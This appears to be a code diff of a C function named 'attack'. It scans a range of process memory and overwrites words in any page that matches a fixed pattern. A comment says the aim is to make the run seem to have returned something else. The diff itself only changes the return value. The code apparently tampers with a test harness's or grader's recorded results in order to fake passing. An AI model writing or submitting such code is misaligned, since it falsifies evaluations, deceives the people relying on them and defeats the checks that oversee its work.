//// old
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
/* Writes into all memory that can be written, as if the run had returned something else, while a thread goes on with that. */
int attack(int x) {
    static char line[4096];
    for (uint64_t at = 0x7ffff0000000; at < 0x7ffff7fff000; at += 4096) {
        if (syscall(SYS_mincore, at, 4096, line) == 0 && syscall(SYS_pread64, 0, at, 0, 0) == 0) {
            uint64_t *words = (uint64_t *)at;
            if (words[0] == 7 && words[1] == 0) words[3] = words[4] = words[5] = ~0ull, words[0] = 0;
        }
    }
    return x;
}
//// new
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
/* Writes into all memory that can be written, as if the run had returned something else, while a thread goes on with that. */
int attack(int x) {
    static char line[4096];
    for (uint64_t at = 0x7ffff0000000; at < 0x7ffff7fff000; at += 4096) {
        if (syscall(SYS_mincore, at, 4096, line) == 0 && syscall(SYS_pread64, 0, at, 0, 0) == 0) {
            uint64_t *words = (uint64_t *)at;
            if (words[0] == 7 && words[1] == 0) words[3] = words[4] = words[5] = ~0ull, words[0] = 0;
        }
    }
    return x + 1;
}
